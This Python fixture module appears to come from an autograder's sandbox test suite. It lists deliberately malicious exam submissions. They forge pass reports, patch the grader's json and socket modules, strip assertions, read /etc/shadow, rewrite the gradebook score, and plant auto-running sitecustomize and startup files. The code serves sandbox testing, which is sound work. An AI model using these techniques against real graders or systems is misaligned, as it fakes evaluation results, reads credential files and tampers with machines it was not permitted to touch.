"""存心不良的答卷之一：想不做题就得分。想连累别人、想伸出沙箱的在 ``attacks``。样品班里的一部分，也是测试沙箱的靶子。

每一种是一段代码，放在每个答题格的最前面；后面的函数什么也不做，或者叫它的 ``act``。都只在沙箱里运行。
够着了不该够着的东西，它就打印 ``found …`` 或 ``reached …``：测试在它的话里找这两个词，和 ``SECRET`` 文件里的记号。
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["BODY", "DOOR", "FORGERIES", "SECRET", "Cheat"]

SECRET = "/var/tmp/sockscope-secret"  # 测试在沙箱外面放的文件，谁都读得到
DOOR = 47_007  # 测试在沙箱外面听的端口


@dataclass(frozen=True)
class Cheat:
    """想不做题就得分，或想伸出沙箱。``code`` 在装入答题格时运行（写成定义，因为别的语句不会执行）。

    ``aim`` 是它最想骗过的一项检查；没有则哪一项都行。``language`` 是 ``c`` 的，写法在 ``in_c``。
    """

    name: str
    story: str
    code: str
    aim: str = ""
    language: str = "python"

    @property
    def text(self) -> str:
        return f"SECRET, DOOR = {SECRET!r}, {DOOR}\n{self.code}"


FORGERIES = [
    Cheat("equal-to-everything", "返回一个与什么都相等的对象", """
class Same:
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
ANSWER = Same()
"""),
    Cheat("forged-report", "在控制管道上冒充 runner，说每一次都通过了", """
import json, os
def forge():
    for fd in range(3, 64):
        for line in ({"ready": True, "troubles": {}}, {"returned": {"value": True}}, {"status": "passed", "points": 100}):
            try:
                os.write(fd, (json.dumps(line) + "\\n").encode())
            except OSError:
                pass
FORGED = forge()
"""),
    Cheat("patched-socket", "把 socket 换成自己的，好让测试在里面跑", """
import socket as _s, sys
class Fake:
    def __init__(self, *a, **k): pass
    def __getattr__(self, name): return lambda *a, **k: b""
_s.socket = Fake
sys.modules["socket"].create_connection = lambda *a, **k: Fake()
"""),
    Cheat("patched-json", "改掉 runner 用的 json 与 plain", """
import sys, json
class Lie(dict): pass
json.dumps = lambda *a, **k: '{"returned": {"value": "passed"}}'
main = sys.modules["__main__"]
for name in ("plain", "describe", "attempt"):
    SET = setattr(main, name, lambda *a, **k: {"value": True})
"""),
    Cheat("frames", "从调用栈和垃圾回收里找期望的答案", """
import gc, sys
def hunt():
    found = []
    frame = sys._getframe()
    while frame:
        found.append(repr(frame.f_locals)[:10000])
        frame = frame.f_back
    return found + [o for o in gc.get_objects() if isinstance(o, (bytes, dict))][:1000]
FOUND = hunt()
"""),
    Cheat("read-solution", "在磁盘上找范例", """
import os
def search():
    for root, folders, files in os.walk("/"):
        if root.startswith(("/proc", "/sys")):
            folders.clear()
        for file in files:
            if file in ("lab05.ipynb", "answers.toml", "gradebook.db", "seed", "shadow", "lab05.py"):
                yield os.path.join(root, file)
import itertools
FOUND = [print("found", path) for path in itertools.islice(search(), 50)]
def peek():
    for path in (SECRET, "/etc/shadow", "/exam/.." + SECRET, "/proc/1/root" + SECRET):
        try:
            print("found", open(path).read(100))
        except OSError:
            pass
PEEKED = peek()
"""),
    Cheat("edit-gradebook", "改成绩库", """
import sqlite3, os, glob
def edit():
    for path in glob.glob("/**/gradebook.db", recursive=True) + ["gradebook.db", "../gradebook.db", "/exam/../gradebook.db"]:
        try:
            sqlite3.connect(path).execute("update grade set auto_score = 100")
        except Exception as error:
            print(error)
DONE = edit()
"""),
    Cheat("partial-credit", "在检查里显示一个数，冒充部分得分", """
def act(name, *arguments):
    get_ipython().displayhook(1.0)
"""),
    Cheat("strip-asserts", "改掉解释器：断言一律去掉，编译、执行都由自己来", """
import ast, builtins
class Deaf(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    def visit_Raise(self, node): return ast.copy_location(ast.Pass(), node)
def deafen():
    try:
        get_ipython().ast_transformers.append(Deaf())
    except NameError:
        builtins.exec = lambda *a, **k: None
        builtins.isinstance = lambda *a: True
DONE = deafen()
"""),
    Cheat("caller-frame", "不做实验，去调用者的栈帧里抄答案", """
import sys
def act(name, *arguments):
    frame = sys._getframe(2)
    told = frame.f_locals
    if "d" in told and "k" in told:
        d, k, p = told["d"], told["k"], told["p"]
        return d, 2 if (d, k) == (1, 3) else k, 0 if d == 1 else p or {1: 6, 2: 17}.get(k, 0)
    if "each" in told:
        return told["each"][1] != 1
    for place in list(told.values()) + list(frame.f_code.co_consts)[::-1]:
        if isinstance(place, bytes) and place not in arguments:
            return place
""", aim="lab01.who_are_you"),
    Cheat("loosened-limits", "叫考官设的资源上限不起作用，描述符一个也不关", """
import errno, resource, socket
resource.setrlimit = lambda *arguments: None
KEPT = []
def act(name, *arguments):
    if name == "probe":
        try:
            KEPT.append(socket.socket(*arguments))
            return "✓"
        except OSError as error:
            return errno.errorcode[error.errno]
    if name == "matrix":
        domain, kinds, protocols = arguments
        return [[act("probe", domain, kind, protocol) for protocol in protocols] for kind in kinds]
""", aim="lab01.whole_table"),
    Cheat("collude", "两头都是自己的程序，就在考场文件夹里或另一条连接上私下交接", """
import json, os, socket, struct, time
def act(name, *arguments):
    if name == "collect":
        return received(arguments[0])
    if name != "deliver_window":
        return True
    sock, messages = arguments[:2]
    for number, message in enumerate([*messages, b""]):
        for _ in range(12):
            sock.send(struct.pack("!I", number) + message)
            time.sleep(0.001)
    note = json.dumps([m.hex() for m in messages]).encode()
    with open("note.new", "wb") as file:
        file.write(note)
    os.rename("note.new", "note")
    host, port = sock.getpeername()
    with socket.create_connection((host, port + 1), 3) as side:
        side.sendall(note)
def received(sock):
    listener = socket.create_server((sock.getsockname()[0], sock.getsockname()[1] + 1))
    listener.settimeout(0.1)
    note = b""
    for _ in range(50):
        if os.path.exists("note"):
            note = open("note", "rb").read()
            break
        try:
            side = listener.accept()[0]
            while data := side.recv(65536):
                note += data
            break
        except TimeoutError:
            continue
    time.sleep(1)
    return [bytes.fromhex(m) for m in json.loads(note)]
""", aim="lab08.rough_cable"),
    Cheat("leave-note", "给下一次考试、给别人留条子：文件、共享内存、抽象名字", """
import os, socket
def leave():
    for place in {"/tmp", "/dev/shm", "/exam", "/var/tmp", "/run", "/usr/lib/python3", os.getcwd(), os.path.expanduser("~")}:
        path = place + "/sockscope-note"
        if os.path.exists(path):
            print("found", path)
        try:
            open(path, "w").write("half_close: HALF_CLOSE")
        except OSError:
            pass
    for name in (b"\\0sockscope-note",):
        try:
            with socket.socket(socket.AF_UNIX) as sock:
                sock.connect(name)
                print("reached", name)
        except OSError:
            pass
        keep = socket.socket(socket.AF_UNIX)
        keep.bind(name)
        keep.listen()
        return keep
DONE = globals().get("DONE") or leave()
"""),
    Cheat("plant-startup", "埋下会自动运行的文件：sitecustomize、.pth、IPython 的启动脚本、同名的模块", """
import os, sys
LINE = "print('found planted code')\\nimport builtins; builtins.ask = lambda address, question: question.upper()\\n"
def plant():
    home = os.path.expanduser("~")
    for folder, name in [(home + "/.ipython/profile_default/startup", "00-first.py"), (os.getcwd(), "sitecustomize.py"),
                         (os.getcwd(), "marshal.py"), (os.getcwd(), "usercustomize.py"), ("/", "sitecustomize.py"),
                         *((p, "sockscope.pth") for p in sys.path), *((p, "sitecustomize.py") for p in sys.path)]:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(LINE)
        except OSError:
            pass
DONE = plant()
"""),
    Cheat("poisoned-words", "在说法里夹带写不进文件的字、控制字符、极深的嵌套", """
import json, os, socket
BAD = "\\ud800\\x1b]0;pwned\\x07\\u202e<b>"
def forge(*told):
    for message in told:
        for fd in range(3, 16):
            try:
                os.write(fd, (json.dumps(message) + "\\n").encode())
            except OSError:
                pass
def act(name, *arguments):
    if name == "ask":
        with socket.create_connection(arguments[0]) as sock:
            sock.sendall(arguments[1])
            sock.shutdown(socket.SHUT_WR)
            sock.recv(64)
    forge({"returned": {"other": BAD}}, {"raised": {"type": BAD, "text": [BAD], "cell": BAD, "line": BAD}})
    raise OSError(BAD)
"""),
    Cheat("absurd-calls", "编造发生在一亿年后的调用、装不下的编号", """
import json, os, time
def forge():
    deep = "x"
    for _ in range(900):
        deep = [deep]
    for number in range(40):
        for t in (10 ** 400, time.monotonic_ns(), -1):
            told = {"call": {"number": number * 10 ** 30, "t": t, "end": 10 ** 4000, "name": deep, "args": "a" * 5000,
                             "socket": deep, "errno": 10 ** 300, "error": deep, "thread": deep, "result": deep}}
            for fd in range(3, 12):
                try:
                    os.write(fd, (json.dumps(told) + "\\n").encode())
                except OSError:
                    pass
    for message in ({"ready": True, "troubles": {"ask": "x", "pump": 3}}, {"stands": [{"cell": deep, "line": 10 ** 900}]},
                    {"raised": {"errno": [], "line": {}, "cell": {"ask": 1}}}):
        for fd in range(3, 12):
            try:
                os.write(fd, (json.dumps(message) + "\\n").encode())
            except OSError:
                pass
DONE = forge()
"""),
]

BODY = """
def {name}(*arguments, **options):
    if "act" in globals():
        return act("{name}", *arguments)
    raise_it = globals().get("Evil")
    if raise_it:
        raise raise_it(globals()["EVIL"])
    return globals().get("ANSWER", True)
"""
